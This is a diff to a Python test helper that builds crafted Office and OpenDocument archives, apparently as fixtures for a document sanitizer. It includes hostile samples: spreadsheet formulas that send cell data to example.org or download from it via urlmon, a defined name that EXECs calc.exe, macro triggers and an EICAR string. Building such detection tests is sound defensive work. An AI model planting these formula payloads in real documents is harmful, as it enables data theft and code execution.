@@ -103,6 +103,13 @@ def hostile_archives() -> dict[str, bytes]:
     def formula(text: str) -> bytes:
         return zipped(xlsx_parts(f"<c><f>{text}</f><v>1</v></c>"))
 
+    def named(part: str, text: str) -> bytes:
+        return zipped(xlsx, **{part: f'{_XML}<x xmlns="x:s" xmlns:c="x:c">{text}</x>'})
+
+    def word_field(instruction: str) -> str:
+        return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>'
+
+    sum_of = "SUM(Sheet1!$A$1:$A$3)"
     macro = str(docx["[Content_Types].xml"]).replace(
         "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
     )
@@ -135,10 +142,42 @@ def hostile_archives() -> dict[str, bytes]:
         "web service": formula('WEBSERVICE("https://example.org/"&amp;A1)'),
         "link in a formula": formula('HYPERLINK("https://example.org/"&amp;A1,"click")'),
         "call": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.org")'),
+        "sum": formula("SUM(A1:A3)"),
+        "difference": formula("B1-A1"),
+        "another cell": formula("A1"),
+        "value as a formula": formula("42"),
+        "formula shared with a cell": zipped(xlsx_parts('<c r="B7"><f t="shared" si="0"/><v>1</v></c>')),
+        "formula of several cells": zipped(xlsx_parts('<c r="B7"><f t="array" ref="B7:B9">A1:A3*2</f><v>1</v></c>')),
+        "name that calculates": named("xl/workbook2.xml", f'<definedName name="total">{sum_of}</definedName>'),
+        "name that calls": named("xl/workbook2.xml", '<definedName name="go">EXEC("calc.exe")</definedName>'),
+        "rule for cells that calculates": named(
+            "xl/worksheets/sheet2.xml",
+            "<conditionalFormatting><cfRule><formula>A1&gt;B1</formula></cfRule></conditionalFormatting>",
+        ),
+        "colour by a formula": named("xl/worksheets/sheet2.xml", '<cfvo type="formula" val="MAX($A$1:$A$9)"/>'),
+        "list that calculates": named("xl/worksheets/sheet2.xml", '<formula1>INDIRECT("A1")</formula1>'),
+        "column of a table that calculates": named(
+            "xl/tables/table1.xml", "<calculatedColumnFormula>Table1[[#This Row],[a]]*2</calculatedColumnFormula>"
+        ),
+        "field of a pivot table that calculates": named(
+            "xl/pivotCache/pivotCacheDefinition1.xml", '<cacheField name="x" formula="people /homes"/>'
+        ),
+        "chart that calculates": xlsx_with_chart("OFFSET(Sheet1!$B$2,0,0,3)"),
+        "sum in a text": zipped(docx_parts(word_field(" =SUM(ABOVE) "))),
+        "sum of a field in a text": zipped(docx_parts(word_field(" = ") + word_field("PAGE") + word_field(" - 1"))),
+        "sum in a simple field": zipped(docx_parts('<w:fldSimple w:instr="= 1 + 1"/>')),
+        "ODT sum in a table": zipped(
+            odt_parts('<table:table-cell xmlns:table="x:b" table:formula="ooow:sum &lt;A1:A3&gt;"/>')
+        ),
+        "ODT another cell": zipped(odt_parts('<table:table-cell xmlns:table="x:b" table:formula="of:=[.A1]"/>')),
+        "ODT field that calculates": zipped(odt_parts('<text:expression text:formula="ooow:1+1"/>')),
         "chart of another workbook": xlsx_with_chart("[1]Sheet1!$B$2:$B$3"),
         "chart of a file": xlsx_with_chart(r"'\\server\share\[book.xlsx]Sheet1'!$B$2"),
         "chart fed from elsewhere": xlsx_with_chart(reach=relations("package", "https://example.org/a.xlsx")),
         "chart that runs a macro": xlsx_with_chart(shape='macro="[0]!Go"'),
+        "button that runs a macro": zipped(
+            xlsx, **{"xl/drawings/vmlDrawing1.vml": '<xml xmlns:x="x:e"><x:FmlaMacro>[0]!Go</x:FmlaMacro></xml>'}
+        ),
         "workbook beside a chart": docx_with_chart("word/_rels/document.xml.rels"),
         "EICAR behind a chart": docx_with_chart(behind=EICAR),
         "macro workbook beside a chart": zipped(docx, **{"word/embeddings/Book1.xlsm": zipped(xlsx)}),
